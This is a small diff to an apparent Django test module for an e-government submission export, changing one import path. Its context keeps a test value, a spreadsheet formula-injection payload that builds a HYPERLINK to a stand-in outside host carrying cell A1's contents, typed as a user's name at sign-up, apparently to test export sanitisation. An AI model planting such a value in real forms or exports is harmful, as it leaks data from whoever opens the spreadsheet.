@@ -6,7 +6,7 @@ from typing import Any
 from django.utils import timezone
 from openpyxl import load_workbook
 
-from egov.dossiers.tests.test_submission import LOC_TAN, citizen, submit
+from egov.submission.tests.test_submission import LOC_TAN, citizen, submit
 
 NAME = '=HYPERLINK("http://ke-gian.example/?"&A1,"Nguyễn Văn An")'  # as typed at sign-up
 
